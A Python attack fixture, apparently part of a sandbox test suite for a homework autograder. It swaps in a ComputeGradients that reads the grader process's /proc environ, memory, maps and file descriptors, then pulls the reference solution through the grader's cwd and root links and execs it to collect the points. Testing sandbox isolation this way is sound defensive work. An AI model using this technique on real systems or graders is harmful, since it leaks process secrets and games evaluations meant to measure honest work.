"""Attack `proc_grader_pid`: the hw2_affine reference with ComputeGradients replaced by the attack.

The grader's own /proc entry (its pid is public knowledge in a batch):
environ, cmdline, memory maps and memory, open descriptors, and the reference
through its cwd and root links; Python open first, libc open second.

Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
"""
@HONEST@
@TOOLKIT@
def wrong_answer(L):
    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
    import numpy as np

    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]


def use_reference(source, L, x, z):
    """Run the stolen file's ComputeGradients: the points the attack wants."""
    namespace = {}
    exec(compile(source, "stolen", "exec"), namespace)
    return namespace["ComputeGradients"](L, x, z)

GRADER_PID = int("@GRADER_PID@")


def ComputeGradients(L, x, z):
    base = f"/proc/{GRADER_PID}"
    for what in ("environ", "cmdline", "maps", "status", "mem", *(f"fd/{n}" for n in range(3, 24))):
        path = f"{base}/{what}"
        try:  # regular files only: reading the grader's pipes would block or steal its data
            if what.startswith("fd/") and not os.readlink(path).startswith("/"):
                continue
        except OSError:
            pass
        try:
            with open(path, "rb") as handle:
                data = handle.read(4096)
            say("PYREAD", path, len(data), "bytes")  # the bytes themselves stay out of the test's logs
        except OSError as exc:
            say("python open", path, type(exc).__name__)
        data = libc_read(path, limit=4096)
        if data:
            say("LIBCREAD", path, len(data), "bytes")
    for path in (f"{base}/cwd/reference/hw2_affine/solution.py", f"{base}/root@COURSE@/reference/hw2_affine/solution.py"):
        source = libc_read(path)
        say("reference via", path, "->", "read" if source else errno_text())
        if source:
            return use_reference(source, L, x, z)
    return wrong_answer(L)
